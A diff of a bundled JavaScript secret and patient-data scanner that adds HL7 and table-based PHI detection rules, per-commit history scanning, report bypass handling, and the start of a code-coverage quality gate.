+            const at = m.index + m[0].length - raw.length + (quoted ? 1 : 0) + (raw.length - raw.trimStart().length);
+            record.push({ key, kind, line, start: at, end: at + value.length, value });
+        }
+    }
+    flush();
+    return out;
+}
+// ---- HL7 v2 PID segments ----
+const HL7_DATE = /^(?:19|20)\d\d(?:0[1-9]|1[0-2])(?:0[1-9]|[12]\d|3[01])/;
+function hl7Patients(file) {
+    const out = [];
+    for (const { line, text } of file.lines) {
+        // Segments end in a carriage return; in code and logs they are often written as a literal "\r" or "\n".
+        let offset = 0;
+        for (const segment of text.split(/\r|\\r|\\n/)) {
+            const begin = offset + (segment.length - segment.trimStart().length);
+            offset += segment.length + (text[offset + segment.length] === '\\' ? 2 : 1);
+            const trimmed = segment.trimStart();
+            if (!trimmed.startsWith('PID|'))
+                continue;
+            const fields = trimmed.split('|');
+            const found = [];
+            const position = (n) => begin + fields.slice(0, n).join('|').length + 1;
+            const add = (n, key, kind, ok) => {
+                const value = fields[n] ?? '';
+                if (ok)
+                    found.push({ key, kind, line, start: position(n), end: position(n) + value.length, value });
+            };
+            const id = (n) => /[A-Za-z0-9]*\d[A-Za-z0-9-]{2,}/.test((fields[n] ?? '').split('^')[0] ?? '');
+            add(2, 'PID-2 (patient id)', 'id', id(2));
+            add(3, 'PID-3 (patient identifier list)', 'id', id(3));
+            add(5, 'PID-5 (name)', 'name', /[A-Za-z]{2,}/.test(fields[5] ?? '') && !/^[*xX^ ]+$/.test(fields[5] ?? ''));
+            add(7, 'PID-7 (date of birth)', 'dob', HL7_DATE.test(fields[7] ?? ''));
+            add(19, 'PID-19 (SSN)', 'id', /\d{3}-?\d{2}-?\d{4}/.test(fields[19] ?? ''));
+            const numbers = found.filter((f) => f.kind !== 'name');
+            if (numbers.length) {
+                const last = found[found.length - 1];
+                out.push({
+                    line,
+                    start: found[0].start,
+                    end: last.end,
+                    secret: trimmed,
+                    detail: `HL7 PID segment with ${found.map((f) => f.key).join(', ')}`,
+                });
+            }
+        }
+    }
+    return out;
+}
+const structuredPhi = {
+    id: 'phi-structured-record',
+    category: 'phi',
+    severity: 'high',
+    confidence: 'medium',
+    description: 'Patient record in structured data (a name with a date of birth or record number)',
+    // A record is PHI only with a birth date or a record number, so one of their names gates the file.
+    keywords: [
+        'dob',
+        'birth',
+        'mrn',
+        'pid',
+        'patient',
+        'medical_record',
+        'medical record',
+        'medicalrecord',
+        'chart',
+        'ssn',
+        'social_security',
+        'subscriber',
+        'member_id',
+        'memberid',
+        'identifier',
+        'record_id',
+        'record_number',
+    ],
+    match: (file) => [...tableRows(file), ...keyedRecords(file), ...hl7Patients(file)],
+    examples: {
+        positive: [
+            { path: 'exports/roster.csv', text: 'fname,lname,dob,mrn\nMaria,Lopez,1961-04-12,00482913' },
+            { path: 'exports/roster.tsv', text: 'Patient Name\tBirth Date\nMaria Lopez\t04/12/1961' },
+            { path: 'data/patient.json', text: '{\n  "firstName": "Maria",\n  "lastName": "Lopez",\n  "dob": "1961-04-12"\n}' },
+            { path: 'notes.txt', text: 'Name: Maria Lopez, DOB: 04/12/1961, MRN: 00482913' },
+            { path: 'fhir/p.json', text: '{"resourceType": "Patient", "name": [{"family": "Chalmers", "given": ["Peter"]}], "birthDate": "1974-12-25"}' },
+            { path: 'roster.md', text: '| Patient Name | DOB (MM/DD/YYYY) | MRN # |\n|---|---|---|\n| Maria Lopez | 04/12/1961 | 00482913 |' },
+            { path: 'roster.txt', text: 'Name           Birth Date    Chart No\nMaria Lopez    12-Apr-1961   A0048291' },
+            { path: 'roster2.txt', text: 'Patient            DOB           MRN\nLopez, Maria       1961/04/12    00482913' },
+            { path: 'msg.hl7', text: 'MSH|^~\\&|EPIC|HOSP|||202401011200||ADT^A01|1|P|2.5\rPID|1||4829137^^^HOSP^MR||***^***||19610412|F' },
+        ],
+        negative: [
+            { path: 'schema.csv', text: 'fname,lname,dob,mrn\nstring,string,date,string' },
+            { path: 'data/users.csv', text: 'name,email,created\nMaria,maria@example.com,2024-01-01' },
+            { path: 'src/proc.ts', text: 'const pid = process.pid;\nconsole.log(name, pid);' },
+            { path: 'masked.csv', text: 'fname,lname,dob,mrn\n***,***,****-**-**,*****' },
+            { path: 'msg.hl7', text: 'PID|1||||***^***|||F' },
+        ],
+    },
+};
+
 ;// CONCATENATED MODULE: ./packages/core/src/scan/rules/index.ts
 
 
+
+
+
+
+
+/** Every credential rule, provider formats first, then keyed ones, then the catch-alls (overlaps keep the earlier). */
+const ALL_CREDENTIAL_RULES = [
+    ...CREDENTIAL_RULES,
+    ...PROVIDER_RULES,
+    ...KEYED_RULES,
+    NUGET_PASSWORD,
+    genericAssignment,
+    genericElementValue,
+    hardcodedCredential,
+    hardcodedCredentialComparison,
+];
 /** Every built-in rule, most specific first (overlapping matches keep the earlier rule). */
 const ALL_RULES = [...ALL_CREDENTIAL_RULES, ...PHI_RULES];
 
+/** Rules over whole files: by name or first bytes, or by structure (tables, records, HL7). */
+const FILE_RULES = [keyStoreFile, dotenvFile, kubernetesSecret, structuredPhi];
 
 ;// CONCATENATED MODULE: ./packages/core/src/scan/engine.ts
+
 
 
 
@@ -22013,8 +29564,11 @@ function wantsWeakMatches(setting, path) {
     return setting === true || ((setting ?? 'data-files') === 'data-files' && DATA_FILE.test(path));
 }
 const engine_cache = new WeakMap();
-function compileRules(rules) {
-    const cached = engine_cache.get(rules);
+function compileRules(rules, fileRules = []) {
+    let byFileRules = engine_cache.get(rules);
+    if (!byFileRules)
+        engine_cache.set(rules, (byFileRules = new WeakMap()));
+    const cached = byFileRules.get(fileRules);
     if (cached)
         return cached;
     const compiled = rules.map((rule, order) => {
@@ -22035,12 +29589,19 @@ function compileRules(rules) {
         for (const k of c.rule.prefilter ?? [])
             entries.push([k, gate]);
     }
+    // File rules share the one keyword pass: a hit anywhere in the file means "run it on this file".
+    for (const fileRule of fileRules) {
+        const hit = { fileRule, kind: 'file' };
+        for (const k of fileRule.keywords ?? [])
+            entries.push([k, hit]);
+    }
     const result = {
         index: new keyword_index_KeywordIndex(entries),
         always: compiled.filter((c) => !c.rule.keywords?.length),
         filtered: compiled.filter((c) => c.rule.prefilter?.length),
+        everyFile: fileRules.filter((r) => !r.keywords?.length),
     };
-    engine_cache.set(rules, result);
+    byFileRules.set(fileRules, result);
     return result;
 }
 function lower(severity) {
@@ -22050,17 +29611,22 @@ function lowerConfidence(confidence) {
     return confidence === 'high' ? 'medium' : 'low';
 }
 /**
- * Turns the keyword pass's hits into per-line triggers (moving 'next-line' hits down a line) and returns
- * the rules whose file-level prefilter keywords occur nowhere in the file.
+ * Turns the keyword pass's hits into per-line triggers (moving 'next-line' hits down a line); returns
+ * the rules whose file-level prefilter keywords occur nowhere in the file, and the file rules to run.
  */
 function settleHits(rules, lineHits) {
     // Lists, not Sets: a file has a handful of each, and this runs once per file.
     const passed = [];
+    const fileRules = [...rules.everyFile];
     for (let i = 0; i < lineHits.length; i++) {
         const hits = lineHits[i];
         if (hits)
             for (const h of hits) {
-                if (h.kind === 'prefilter')
+                if (h.kind === 'file') {
+                    if (!fileRules.includes(h.fileRule))
+                        fileRules.push(h.fileRule);
+                }
+                else if (h.kind === 'prefilter')
                     passed.push(h.compiled);
                 else if (h.kind === 'next-line' && i + 1 < lineHits.length) {
                     const below = (lineHits[i + 1] ??= []);
@@ -22069,7 +29635,7 @@ function settleHits(rules, lineHits) {
                 }
             }
     }
-    return rules.filtered.filter((c) => !passed.includes(c));
+    return { off: rules.filtered.filter((c) => !passed.includes(c)), fileRules };
 }
 /** Every rule match on one line (before overlap resolution). */
 function matchLine(text, near, hits, always, off) {
@@ -22152,6 +29718,8 @@ class Scanner {
     maxFindingsPerFile;
     /** What scanFile counted but did not list, in scan order. */
     unlisted = [];
+    /** File rules' claims on paths with a binary extension (key stores): those are not skipped. */
+    claimsPath;
     constructor(options = {}) {
         this.options = options;
         let rules = options.rules ?? ALL_RULES;
@@ -22161,10 +29729,17 @@ class Scanner {
             if (kept.length !== rules.length)
                 rules = kept;
         }
-        this.rules = compileRules(rules);
-        this.exclude = new PathMatcher([...(options.defaultExcludes === false ? [] : DEFAULT_EXCLUDE), ...(options.exclude ?? [])]);
-        this.include = new PathMatcher(options.include ?? []);
-        this.fixtures = new PathMatcher(options.fixtures ?? DEFAULT_FIXTURES);
+        let fileRules = options.fileRules ?? FILE_RULES;
+        if (options.disable?.length || options.categories) {
+            const kept = fileRules.filter((r) => !options.disable?.includes(r.id) && (!options.categories || options.categories.includes(r.category)));
+            if (kept.length !== fileRules.length)
+                fileRules = kept;
+        }
+        this.claimsPath = fileRules.filter((r) => r.claimsPath).map((r) => r.claimsPath);
+        this.rules = compileRules(rules, fileRules);
+        this.exclude = new paths_PathMatcher([...(options.defaultExcludes === false ? [] : DEFAULT_EXCLUDE), ...(options.exclude ?? [])]);
+        this.include = new paths_PathMatcher(options.include ?? []);
+        this.fixtures = new paths_PathMatcher(options.fixtures ?? DEFAULT_FIXTURES);
         this.maxLineLength = options.maxLineLength ?? 8192;
         this.maxFindingsPerFile = options.maxFindingsPerFile ?? 200;
     }
@@ -22174,18 +29749,22 @@ class Scanner {
             return undefined;
         if (this.exclude.matches(path))
             return 'excluded';
-        if (this.options.defaultExcludes !== false && hasBinaryExtension(path))
+        if (this.options.defaultExcludes !== false && hasBinaryExtension(path) && !this.claimed(path))
             return 'binary';
         return undefined;
+    }
+    /** A file rule reports this path by its name alone: read it even when it is binary (with its first bytes as `head`). */
+    claimed(path) {
+        return this.claimsPath.some((claims) => claims(path));
     }
     /** The diff sections worth scanning, and the others with the reason they are skipped. */
     select(sections) {
         const out = { files: [], skipped: [] };
         for (const f of sections) {
-            const reason = f.binary ? 'binary' : this.skipReason(f.path);
+            const reason = f.binary && !this.claimed(f.path) ? 'binary' : this.skipReason(f.path);
             if (reason)
                 out.skipped.push({ path: f.path, reason });
-            else if (f.lines.length)
+            else if (f.lines.length || f.binary)
                 out.files.push(f);
         }
         return out;
@@ -22199,15 +29778,23 @@ class Scanner {
         const lines = file.lines;
         // A file longer than one window is read a window at a time, so memory stays flat whatever its length
         // (a dump of 500,000 lines): its file-level prefilters are settled over the whole file first.
-        const prefiltersOff = lines.length > WINDOW_LINES ? this.prefiltersOff(lines) : undefined;
+        const whole = lines.length > WINDOW_LINES ? this.settleWhole(lines) : undefined;
+        let fileRules = whole?.fileRules ?? [...this.rules.everyFile];
         for (let from = 0; from < lines.length; from += WINDOW_LINES) {
             // One line before the window: a 'next-line' hit on it triggers on the window's first line.
             const first = Math.max(0, from - 1);
             const lineHits = this.hitsPerLine(lines, first, Math.min(lines.length, from + WINDOW_LINES));
             const settled = settleHits(this.rules, lineHits);
-            this.scanWindow(file, lines, from, lineHits, first, prefiltersOff ?? settled, fixture, weak, findings);
+            if (!whole)
+                fileRules = settled.fileRules;
+            this.scanWindow(file, lines, from, lineHits, first, whole?.off ?? settled.off, fixture, weak, findings);
         }
-        return findings;
+        // A file rule's finding that a line rule already reports (an SSN in a patient row) would say it twice.
+        for (const rule of fileRules)
+            for (const f of this.fileFindings(rule, file, fixture))
+                if (!findings.some((l) => l.line === f.line && l.category === f.category && l.column < f.endColumn && f.column < l.endColumn))
+                    findings.push(f);
+        return pairCredentials(findings);
     }
     /** One keyword pass over lines [from, to): the hits of each line, indexed from `from`. */
     hitsPerLine(lines, from, to) {
@@ -22221,15 +29808,19 @@ class Scanner {
         }
         return this.rules.index.findPerLine(texts.join('\n'), ends);
     }
-    /** The rules whose file-level prefilter found nothing anywhere in the file, window by window. */
-    prefiltersOff(lines) {
+    /** Prefilters and file rules settled over the whole file, window by window (for files longer than one). */
+    settleWhole(lines) {
         const passed = new Set();
+        const fileRules = new Set(this.rules.everyFile);
         for (let from = 0; from < lines.length; from += WINDOW_LINES)
             for (const hits of this.hitsPerLine(lines, from, Math.min(lines.length, from + WINDOW_LINES)))
-                for (const h of hits ?? [])
+                for (const h of hits ?? []) {
                     if (h.kind === 'prefilter')
                         passed.add(h.compiled);
-        return this.rules.filtered.filter((c) => !passed.has(c));
+                    else if (h.kind === 'file')
+                        fileRules.add(h.fileRule);
+                }
+        return { off: this.rules.filtered.filter((c) => !passed.has(c)), fileRules: [...fileRules] };
     }
     scanWindow(file, lines, from, lineHits, hitsFrom, off, fixture, weak, findings) {
         const alwaysOn = this.rules.always.some((c) => !off.includes(c));
@@ -22307,6 +29898,25 @@ class Scanner {
         entry.count++;
         entry.bySeverity[severity] = (entry.bySeverity[severity] ?? 0) + 1;
     }
+    /** A file rule's matches as findings; a pragma on the reported line silences them as it does a line's. */
+    fileFindings(rule, file, fixture) {
+        const out = [];
+        const matches = rule.match(file);
+        // By line number once per file: a table with 100,000 patient rows would otherwise search 100,000 times.
+        const textOf = matches.length ? new Map(file.lines.map((l) => [l.line, l.text])) : undefined;
+        for (const m of matches) {
+            const text = withoutCr(textOf?.get(m.line) ?? '');
+            const span = { start: m.start, end: m.end, category: rule.category, revealPrefix: false };
+            const candidate = { rule, order: -1, start: m.start, end: m.end, secret: m.secret, withoutContext: false, weak: false, detail: m.detail };
+            const finding = this.toFinding(candidate, file.path, m.line, text, [span], span, fixture);
+            const pragma = readPragma(text);
+            if (pragma?.reason)
+                finding.suppressed = { kind: 'pragma', reason: pragma.reason };
+            if (!finding.suppressed || this.options.includeSuppressed)
+                out.push(finding);
+        }
+        return out;
+    }
     toFinding(c, path, line, text, spans, focus, fixture) {
         const { severity, confidence } = this.rated(c, fixture);
         const finding = {
@@ -22314,7 +29924,7 @@ class Scanner {
             category: c.rule.category,
             severity,
             confidence,
-            description: c.rule.description,
+            description: c.detail ? `${c.rule.description}: ${c.detail}` : c.rule.description,
             file: path,
             line,
             column: c.start + 1,
@@ -22495,7 +30105,43 @@ async function rangeDiff(git, range) {
     if (!match)
         throw new ConfigurationError(`--range ${JSON.stringify(range)}: not a commit range; give A..B (commits in B not in A) or A...B (since their merge base).`);
     const [, from, dots, to] = match;
-    return scan_diffFiles(git, ['--end-of-options', `${assertRev(from)}${dots}${assertRev(to)}`, '--']);
+    return scan_diffFiles(git, ['--end-of-options', `${git_assertRev(from)}${dots}${git_assertRev(to)}`, '--']);
+}
+/**
+ * Added lines of every commit in `from..to`, each against its first parent: a secret added by one commit
+ * and removed by the next is in the repository's history even though `from..to` as a whole hides it.
+ * `from` may be the empty tree (every commit reachable from `to`). A line added twice is kept once.
+ */
+async function commitsDiff(git, from, to) {
+    const fromCommit = await git.tryResolve(from);
+    const list = await git.text(['rev-list', '--reverse', '--topo-order', '--end-of-options', assertRev(to), ...(fromCommit ? [`^${fromCommit}`] : [])]);
+    const byPath = new Map();
+    const seen = new Set();
+    for (const sha of list.split('\n').filter(Boolean)) {
+        const parent = await git.tryResolve(`${sha}^1`);
+        const files = await rangeDiff(git, `${parent ?? (await emptyTree(git))}..${sha}`);
+        for (const file of files) {
+            const kept = byPath.get(file.path) ?? { ...file, lines: [] };
+            byPath.set(file.path, kept);
+            for (const line of file.lines) {
+                const key = `${file.path}\0${line.line}\0${line.text}`;
+                if (seen.has(key))
+                    continue;
+                seen.add(key);
+                kept.lines.push(line);
+            }
+            kept.binary ||= file.binary;
+        }
+    }
+    for (const file of byPath.values())
+        file.lines.sort((a, b) => a.line - b.line);
+    return [...byPath.values()];
+}
+/** The id of the empty tree in this repository's object format. */
+async function emptyTree(git) {
+    return (await git.objectFormat()) === 'sha256'
+        ? '6ef19b41225c5369f1c104d45d8d85efa9b057b53b14b4b9b939dd74decc5321'
+        : '4b825dc642cb6eb9a060e54bf8d69288fbee4904';
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/scan/baseline.ts
@@ -22570,6 +30216,12 @@ function updatedBaseline(previous, findings, stale, now) {
 ;// CONCATENATED MODULE: ./packages/core/src/scan/report.ts
 
 const REPORT_SCHEMA_ID = 'urn:closed-loop:schema:secret-scan-report:1';
+/** Whether a bypass lets this finding through: a listed fingerprint, or any when none is listed. */
+function bypassCovers(bypass, fingerprint) {
+    if (!bypass)
+        return false;
+    return !bypass.covers?.length || bypass.covers.includes(fingerprint);
+}
 /** The report: which findings block (at or above fail-on, not suppressed), unless a bypass was granted. */
 function buildReport(input) {
     const findings = input.findings.map((f) => ({ ...f, blocking: !f.suppressed && atOrAbove(f.severity, input.failOn) }));
@@ -22587,7 +30239,7 @@ function buildReport(input) {
         generatedAt: input.now.toISOString(),
         source: input.source,
         failOn: input.failOn,
-        blocked: blocking > 0 && !input.bypass,
+        blocked: findings.some((f) => f.blocking && !bypassCovers(input.bypass, f.fingerprint)),
         summary: {
             filesScanned: input.filesScanned,
             linesScanned: input.linesScanned,
@@ -22631,7 +30283,13 @@ const REPORT_SCHEMA = {
         source: {
             type: 'object',
             required: ['mode'],
-            properties: { mode: { enum: ['staged', 'range', 'files', 'pull_request', 'push'] }, range: report_str, repository: report_str, pullRequest: report_int, commit: report_str },
+            properties: {
+                mode: { enum: ['staged', 'range', 'files', 'pull_request', 'push', 'merge_group'] },
+                range: report_str,
+                repository: report_str,
+                pullRequest: report_int,
+                commit: report_str,
+            },
         },
         failOn: report_severity,
         blocked: { type: 'boolean', description: 'true when a finding blocks and no bypass was granted' },
@@ -22741,14 +30399,20 @@ function readWhole(paths, root, cwd, scanner) {
         }
         let bytes;
         try {
-            bytes = (0,external_node_fs_namespaceObject.readFileSync)(absolute);
+            bytes = (0,external_node_fs_.readFileSync)(absolute);
         }
         catch {
             throw new ConfigurationError(`--files: cannot read ${given}; pass existing files.`);
         }
         const text = decodeText(bytes);
-        if (text === undefined)
-            out.skipped.push({ path, reason: 'binary' });
+        if (text === undefined) {
+            // Binary: only the file rules (a key store by its name or first bytes) can report it.
+            const binary = { path, lines: [], head: bytes.subarray(0, 64) };
+            if (scanner.scanFile(binary).length)
+                out.files.push(binary);
+            else
+                out.skipped.push({ path, reason: 'binary' });
+        }
         else
             out.files.push({ path, lines: textLines(text) });
         out.whole.add(path);
@@ -22794,7 +30458,7 @@ async function run(args, io) {
     const inRepo = repo !== undefined;
     const root = repo ?? io.cwd;
     const configPath = (0,external_node_path_namespaceObject.join)(root, CONFIG_PATH);
-    const config = (0,external_node_fs_namespaceObject.existsSync)(configPath) ? readScanConfig((0,external_node_fs_namespaceObject.readFileSync)(configPath, 'utf8')) : scanConfigOf(undefined);
+    const config = (0,external_node_fs_.existsSync)(configPath) ? readScanConfig((0,external_node_fs_.readFileSync)(configPath, 'utf8')) : scanConfigOf(undefined);
     const failOn = (failOnArg ?? config.fail_on);
     const scanner = new Scanner({ ...scanOptionsOf(config), includeSuppressed: true });
     const git = new Git(root);
@@ -22803,7 +30467,7 @@ async function run(args, io) {
     if (args.positionals.length > 0)
         collected = readWhole(args.positionals, root, io.cwd, scanner);
     else if (args.values['update-baseline'] === true && !range && args.values.staged !== true) {
-        const tracked = (await git.fields(['ls-files', '-z', '--cached'])).filter((p) => !scanner.skipReason(p) && (0,external_node_fs_namespaceObject.existsSync)((0,external_node_path_namespaceObject.join)(root, p)));
+        const tracked = (await git.fields(['ls-files', '-z', '--cached'])).filter((p) => !scanner.skipReason(p) && (0,external_node_fs_.existsSync)((0,external_node_path_namespaceObject.join)(root, p)));
         collected = readWhole(tracked.map((p) => (0,external_node_path_namespaceObject.join)(root, p)), root, root, scanner);
     }
     else {
@@ -22820,13 +30484,13 @@ async function run(args, io) {
     const baselineText = await readOptionalText(io, baselinePath, 'scan.baseline');
     const baseline = baselineText === undefined ? emptyBaseline() : parseBaseline(baselineText, config.baseline);
     const raw = scanner.scan(collected.files);
-    const missing = new Set(baseline.entries.map((e) => e.file).filter((file) => !(0,external_node_fs_namespaceObject.existsSync)((0,external_node_path_namespaceObject.join)(root, file))));
+    const missing = new Set(baseline.entries.map((e) => e.file).filter((file) => !(0,external_node_fs_.existsSync)((0,external_node_path_namespaceObject.join)(root, file))));
     const { findings, stale } = applyBaseline(raw, baseline, { fullyScanned: collected.whole, missing });
     const now = new Date();
     if (args.values['update-baseline'] === true) {
         const next = updatedBaseline(baseline, findings, stale, now);
-        (0,external_node_fs_namespaceObject.mkdirSync)((0,external_node_path_namespaceObject.dirname)(baselinePath), { recursive: true });
-        (0,external_node_fs_namespaceObject.writeFileSync)(baselinePath, serializeBaseline(next));
+        (0,external_node_fs_.mkdirSync)((0,external_node_path_namespaceObject.dirname)(baselinePath), { recursive: true });
+        (0,external_node_fs_.writeFileSync)(baselinePath, serializeBaseline(next));
         io.stdout(`closed-loop scan: baseline ${config.baseline} now has ${next.entries.length} entr${next.entries.length === 1 ? 'y' : 'ies'} (${stale.length} stale removed). Add a reason to each new entry.\n`);
         return EXIT.ok;
     }
@@ -22846,11 +30510,11 @@ async function run(args, io) {
     io.stdout(args.values.json === true ? `${JSON.stringify(report, null, 2)}\n` : formatText(report));
     const sarif = stringArg(args, 'sarif');
     if (sarif)
-        (0,external_node_fs_namespaceObject.writeFileSync)((0,external_node_path_namespaceObject.isAbsolute)(sarif) ? sarif : (0,external_node_path_namespaceObject.resolve)(io.cwd, sarif), `${JSON.stringify(toSarif(report), null, 2)}\n`);
+        (0,external_node_fs_.writeFileSync)((0,external_node_path_namespaceObject.isAbsolute)(sarif) ? sarif : (0,external_node_path_namespaceObject.resolve)(io.cwd, sarif), `${JSON.stringify(toSarif(report), null, 2)}\n`);
     const reportDir = args.values.report === true ? (0,external_node_path_namespaceObject.join)(root, config.report_dir) : undefined;
     if (reportDir) {
-        (0,external_node_fs_namespaceObject.mkdirSync)(reportDir, { recursive: true });
-        (0,external_node_fs_namespaceObject.writeFileSync)((0,external_node_path_namespaceObject.join)(reportDir, reportFileName(now)), `${JSON.stringify(report, null, 2)}\n`);
+        (0,external_node_fs_.mkdirSync)(reportDir, { recursive: true });
+        (0,external_node_fs_.writeFileSync)((0,external_node_path_namespaceObject.join)(reportDir, reportFileName(now)), `${JSON.stringify(report, null, 2)}\n`);
     }
     return report.blocked ? EXIT.findings : EXIT.ok;
 }
@@ -22877,7 +30541,8429 @@ const scanCommand = {
     run,
 };
 
+;// CONCATENATED MODULE: ./packages/core/src/gate/settings.ts
+
+/** The schema's defaults of one subsection (the one place they are written). */
+function settings_defaults(section) {
+    const props = (qualityGateSchema.properties?.[section]).properties ?? {};
+    return Object.fromEntries(Object.entries(props).map(([k, v]) => [k, structuredClone(v.default)]));
+}
+/** The `quality_gate:` section (already validated by loadConfig) with defaults filled in, as the engines' settings. */
+function qualityGateSettingsOf(section) {
+    const given = (section ?? {});
+    const cov = { ...settings_defaults('coverage'), ...given.coverage };
+    const bench = { ...settings_defaults('bench'), ...given.bench };
+    const c = { ...settings_defaults('commits'), ...given.commits };
+    return {
+        coverage: { minPatch: cov.min_patch, minTotal: cov.min_total, maxDrop: cov.max_drop },
+        bench: { tolerance: bench.tolerance, confidence: bench.confidence, resamples: 2000, artifact: bench.artifact },
+        commits: {
+            types: c.types,
+            scopes: c.scopes,
+            requireScope: c.require_scope,
+            maxHeaderLength: c.max_header_length,
+            mergeCommits: c.merge_commits,
+            fixupCommits: c.fixup_commits,
+            checkTitle: c.check_title,
+        },
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/paths.ts
+/**
+ * Maps the paths a coverage tool wrote (absolute CI paths, `./`-relative, Windows separators, Go import
+ * paths, JaCoCo package paths) to repository paths. A report path maps to the repository path it ends
+ * with at a folder boundary — the longest such match — so `/home/runner/work/app/app/src/a.ts`,
+ * `C:\a\app\src\a.ts` and `github.com/o/app/src/a.go` all find `src/a.ts` / `src/a.go`.
+ */
+function normalisePath(path) {
+    let p = path.trim().replace(/\\/g, '/');
+    if (p.startsWith('file://'))
+        p = p.slice(7);
+    p = p.replace(/^[A-Za-z]:\//, '/').replace(/\/{2,}/g, '/');
+    while (p.startsWith('./'))
+        p = p.slice(2);
+    return p;
+}
+class PathMapper {
+    roots;
+    bySuffix = new Map();
+    /** `known`: repository-relative paths (the changed files, or `git ls-files`). `roots`: prefixes to strip first. */
+    constructor(known, roots = []) {
+        this.roots = roots;
+        for (const path of known) {
+            const norm = normalisePath(path);
+            const base = norm.slice(norm.lastIndexOf('/') + 1);
+            const list = this.bySuffix.get(base) ?? [];
+            list.push(norm);
+            this.bySuffix.set(base, list);
+        }
+    }
+    /** The repository path a report path names, or undefined when no known path matches. */
+    map(reportPath) {
+        let p = normalisePath(reportPath);
+        for (const root of this.roots) {
+            const r = normalisePath(root).replace(/\/?$/, '/');
+            if (r !== '/' && p.startsWith(r))
+                p = p.slice(r.length);
+        }
+        const candidates = this.bySuffix.get(p.slice(p.lastIndexOf('/') + 1));
+        if (!candidates)
+            return undefined;
+        let best;
+        for (const c of candidates) {
+            if ((p === c || p.endsWith(`/${c}`)) && (!best || c.length > best.length))
+                best = c;
+        }
+        if (best)
+            return best;
+        // The report is relative to a subfolder (a monorepo package, Cobertura's <source>): the repo path ends with it.
+        const rel = p.replace(/^\/+/, '');
+        return candidates.find((c) => c.endsWith(`/${rel}`));
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/evaluate.ts
+
+function ratio(covered, total) {
+    return { covered, total, percent: total ? Math.round((covered / total) * 10_000) / 100 : undefined };
+}
+function totalOf(coverage) {
+    if (coverage.totals)
+        return ratio(coverage.totals.covered, coverage.totals.total);
+    let covered = 0;
+    let total = 0;
+    for (const f of coverage.files) {
+        f.lines.forEach((count) => {
+            total++;
+            if (count > 0)
+                covered++;
+        }); // forEach skips the holes (lines that are not executable)
+    }
+    return ratio(covered, total);
+}
+const SOURCE = /\.(?:[cm]?[jt]sx?|py|go|java|kt|kts|scala|groovy|cs|fs|vb|rb|php|rs|c|cc|cpp|cxx|h|hh|hpp|swift|m|mm|dart|ex|exs|erl|clj|lua|pl|r|jl|vue|svelte)$/i;
+/** Total and patch coverage of a report against the lines a change adds, judged by the settings. */
+function evaluateCoverage(coverage, settings, options = {}) {
+    const total = totalOf(coverage);
+    const failures = [];
+    const notes = [];
+    const uncovered = [];
+    const unreported = [];
+    let patch;
+    if (options.diff) {
+        if (coverage.totals && !coverage.files.length)
+            notes.push(`${coverage.format} has totals only; give lcov, Cobertura, Clover, JaCoCo, coverage-final.json or a Go profile for patch coverage.`);
+        else {
+            const changed = options.diff.filter((f) => !f.deleted && !f.binary && f.lines.length);
+            const mapper = new PathMapper(changed.map((f) => f.path), coverage.sourceRoots);
+            const byRepoPath = new Map();
+            for (const f of coverage.files) {
+                const repoPath = mapper.map(f.path);
+                if (repoPath)
+                    byRepoPath.set(repoPath, f.lines);
+            }
+            let covered = 0;
+            let count = 0;
+            for (const f of changed) {
+                const lines = byRepoPath.get(f.path);
+                if (!lines) {
+                    if (SOURCE.test(f.path))
+                        unreported.push(f.path);
+                    continue;
+                }
+                const missed = [];
+                for (const { line } of f.lines) {
+                    const hits = lines[line];
+                    if (hits === undefined)
+                        continue; // not executable (comment, blank, declaration)
+                    count++;
+                    if (hits > 0)
+                        covered++;
+                    else
+                        missed.push(line);
+                }
+                if (missed.length)
+                    uncovered.push({ path: f.path, lines: missed });
+            }
+            patch = ratio(covered, count);
+            if (patch.percent !== undefined && patch.percent < settings.minPatch)
+                failures.push(`patch coverage ${patch.percent}% is below ${settings.minPatch}% (${covered} of ${count} added executable lines ran).`);
+            if (unreported.length)
+                notes.push(`${unreported.length} changed source file(s) are not in the report: ${unreported.slice(0, 5).join(', ')}${unreported.length > 5 ? ', …' : ''}.`);
+        }
+    }
+    if (total.percent !== undefined && settings.minTotal > 0 && total.percent < settings.minTotal)
+        failures.push(`total coverage ${total.percent}% is below ${settings.minTotal}%.`);
+    const base = options.base ? totalOf(options.base) : undefined;
+    if (base?.percent !== undefined && total.percent !== undefined && base.percent - total.percent > settings.maxDrop)
+        failures.push(`total coverage dropped ${(base.percent - total.percent).toFixed(2)} points (${base.percent}% → ${total.percent}%), more than ${settings.maxDrop}.`);
+    if (total.percent === undefined)
+        notes.push('the report has no executable lines.');
+    return { format: coverage.format, total, patch, base, uncovered, unreported, failures, notes, passed: failures.length === 0 };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/types.ts
+/** Keeps the larger count when a line appears twice (several blocks or classes on one line). */
+function hit(lines, line, count) {
+    if (!Number.isInteger(line) || line < 1)
+        return;
+    const before = lines[line];
+    if (before === undefined || count > before)
+        lines[line] = count;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/go-cover.ts
+
+
+const BLOCK = /^(.+):(\d+)\.\d+,(\d+)\.\d+ (\d+) (\d+)$/;
+/**
+ * Go cover profile (`go test -coverprofile`, golang.org/x/tools/cover): `mode: set|count|atomic`, then
+ * `file.go:startLine.startCol,endLine.endCol numStmt count` per block. Every line a block spans counts;
+ * a line in several blocks keeps the largest count
+ * (an `if` line holds the end of the block before it and the `{` of its body: it ran if the condition did).
+ */
+function readGoCover(text, name) {
+    const lines = text.split('\n');
+    if (!/^mode: (set|count|atomic)\s*$/.test(lines[0] ?? ''))
+        throw new ConfigurationError(`${name}:1: expected "mode: set|count|atomic"; not a Go cover profile.`);
+    const byPath = new Map();
+    for (let i = 1; i < lines.length; i++) {
+        const raw = lines[i].trimEnd();
+        if (!raw)
+            continue;
+        if (raw.startsWith('mode: '))
+            continue; // profiles concatenated from several packages repeat the header
+        const m = BLOCK.exec(raw);
+        if (!m)
+            throw new ConfigurationError(`${name}:${i + 1}: malformed cover block; expected file.go:line.col,line.col numStmt count.`);
+        const [, path, from, to, stmts, count] = m;
+        if (stmts === '0')
+            continue;
+        const file = byPath.get(path) ?? { path, lines: [] };
+        byPath.set(path, file);
+        for (let l = Number(from); l <= Number(to); l++)
+            hit(file.lines, l, Number(count));
+    }
+    return { format: 'go-cover', files: [...byPath.values()] };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/istanbul.ts
+
